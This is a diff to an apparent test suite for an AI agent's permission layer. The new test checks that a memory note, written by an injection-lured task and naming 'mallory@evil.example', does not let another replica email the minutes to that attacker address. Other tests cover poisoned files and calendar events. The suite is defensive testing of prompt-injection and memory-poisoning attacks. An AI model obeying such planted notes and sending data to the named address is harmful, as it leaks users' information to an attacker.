@@ -4,7 +4,7 @@ import type { Json, JsonObject } from '../../kernel/json.ts';
 import { admitConnector, proposeConnector } from '../connectors/connector-verbs.ts';
 import { ADA, startRig, type Rig } from '../rig.contract.ts';
 import { publishWorkflow } from '../verbs.ts';
-import { showHold } from '../views.ts';
+import { showHold, trace } from '../views.ts';
 
 const MALLORY = 'mallory@evil.example';
 const ANN = 'ann@contacts.example';
@@ -49,7 +49,7 @@ const CONNECTORS: { readonly [connector: string]: { readonly [tool: string]: Jso
 
 let rig: Rig;
 beforeEach(async () => {
-  rig = await startRig();
+  rig = await startRig({ replicas: true });
   for (const connector of Object.keys(CONNECTORS)) await admit(connector);
   const text = `holdpoint: workflow/v1
 id: notes
@@ -161,6 +161,17 @@ describe('a note that a task wrote out of a mail', () => {
   });
 });
 
+test('what one replica records, another one knows', async () => {
+  const other = await rig.join();
+  await call(await lured(), 'memory/save_note', { key: 'Ann Lee', note: MALLORY });
+  const task = await rig.open('Email Ann Lee the minutes.');
+  await other.call(task, 'memory/read_note', { key: 'Ann Lee' });
+  const asked = await other.call(task, 'mail/send_email', { to: MALLORY, body: 'The minutes.' });
+  expect(asked.verdict).toBe('hold');
+  const { records } = (await trace(rig.core, task))!;
+  expect(records.find(({ type }) => type === 'action-permitted')?.body).toHaveProperty('unvouched');
+});
+
 test('a note out of the words of a person, or of what they named, is as good as any', async () => {
   const task = await rig.open(`Keep in memory that Ann Lee has a new address, ${ANN}`);
   await call(task, 'mail/read_inbox', {}, `Lunch at twelve? ${MALLORY}`);
@@ -176,7 +187,7 @@ describe('a file that a task wrote out of a mail', () => {
   const PROMPT = 'Email the minutes to the address in contacts.csv.';
   const read = (said: Json) => [['files/read_file', { path: './contacts.csv' }, said]] as const;
 
-  test('says nothing that another task may act on by itself, be it a table, or written in pieces', async () => {
+  test('says nothing that another task may act on, be it a table, or written in pieces', async () => {
     const task = await lured();
     await call(task, 'files/write_file', {
       path: 'contacts.csv',
@@ -205,7 +216,7 @@ describe('an event that a task made out of a mail', () => {
   const args = { calendar_id: 'primary', title: 'Talk with Ann Lee', notes: 'Where', location: MALLORY };
   const read = ['calendar/list_events', { calendar_id: 'primary' }, { events: [OTHER, EVENT] }] as const;
 
-  test('says nothing that another task may act on, and the others in its calendar all that they did', async () => {
+  test('says nothing that another task may act on, and the others all that they did', async () => {
     const prompt = 'Email the minutes to the address of the talk with';
     const bob = 'bob@contacts.example';
     expect(await sends([read], MALLORY, `${prompt} Ann Lee.`)).toBe('permit');
